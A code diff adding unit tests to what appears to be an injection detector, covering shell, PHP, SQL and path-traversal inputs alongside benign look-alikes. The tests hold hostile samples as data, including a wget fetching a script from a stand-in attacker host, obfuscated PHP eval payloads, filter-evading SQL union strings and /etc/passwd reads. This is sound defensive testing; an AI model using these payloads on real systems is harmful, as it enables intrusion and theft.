@@ -47,6 +47,63 @@ describe('malicious input: what the issue names', () => {
     expect(findInjectionsIn([value(text)])).toEqual([]);
   });
 
+  it('reads a bare word that is also data (`?orderBy=id`, a JSON key `type`) as data, chained or argued as a command', () => {
+    const name = (text: string) => ({ kind: 'query-name' as const, name: '', value: text });
+    for (const word of ['id', 'type', 'dir', 'cat', 'ping', 'ls', 'nc']) {
+      expect(findInjectionsIn([name(word), value(word)])).toEqual([]);
+    }
+    expect(findInjections(['id;'])).toContain('command');
+    expect(findInjections(['ping -c 3 attacker.example'])).toContain('command');
+    expect(findInjections(['whoami'])).toContain('command');
+  });
+
+  it.each([
+    ['$cb($_GET)', 'php'],
+    ["${'x'}(2)", 'php'],
+    ['$_x1 /* c */ (1)', 'php'],
+    ['"assert"(ls)', 'php'],
+    ['[exec][0](id)', 'php'],
+    ['eval /* c */ (x)', 'php'],
+    ['{php}phpinfo(){/php}', 'php'],
+    ['for /f "tokens=1" %i in (list.txt) do type %i', 'command'],
+    ['if /i "%a%"=="b" del x', 'command'],
+    ['IF %ERRORLEVEL% GEQ 1 exit', 'command'],
+    ['python3 -c "import os"', 'command'],
+    ["node -e 'require(1)'", 'command'],
+    ['wget http://evil.example/x.sh', 'command'],
+    ['if "%~1"=="" goto end', 'command'],
+    ['0/**/union/*!50000select*/1', 'sqli'],
+    ['1 union/* x */select 2', 'sqli'],
+    ['/???/??????', 'traversal'],
+    ['/etc/pa*', 'traversal'],
+  ])('%s is %s (call and batch grammar)', (text, kind) => {
+    expect(findInjections([text])).toContain(kind);
+  });
+
+  it.each([
+    'Total: $5 (approx)',
+    'price $x (est.)',
+    '"Hello" (said she)',
+    'jQuery $(document)',
+    'if you == me then',
+    'if a == b',
+    'if not sure, ask',
+    'wget vs curl',
+    'node -v',
+    'for i in (1,2) do',
+    '*/*',
+    'x/*',
+    'text/*; q=0.8',
+    '/** docs */ function f() {}',
+  ])('%s is prose or a harmless snippet', (text) => {
+    expect(findInjections([text])).toEqual([]);
+  });
+
+  it('never throws on a glob class the shell cannot match (`[z-a]`), and still reads the rest', () => {
+    expect(() => findInjections([';c[z-a]t', '\\[?--]'])).not.toThrow();
+    expect(findInjections([';c[z-a]t /etc/passwd'])).toContain('traversal');
+  });
+
   it('judges a user agent as a header: `; id)` and `id-id;` are locales, not commands', () => {
     const agents = [
       'Opera/9.80 (J2ME/MIDP; Opera Mini/4.2.14912/870; U; id) Presto/2.4.15',
